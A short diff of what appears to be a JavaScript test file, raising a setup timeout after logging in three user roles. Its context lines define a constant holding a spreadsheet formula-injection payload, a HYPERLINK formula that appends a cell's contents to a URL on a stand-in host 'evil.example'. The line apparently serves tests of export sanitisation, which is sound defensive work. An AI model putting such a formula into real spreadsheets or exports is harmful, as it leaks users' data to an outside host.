@@ -17,7 +17,7 @@ beforeAll(async () => {
   admin = await env.login('admin');
   manager = await env.login('manager');
   sales = await env.login('sales');
-}, 60_000);
+}, 180_000);
 afterAll(async () => env?.close());
 
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
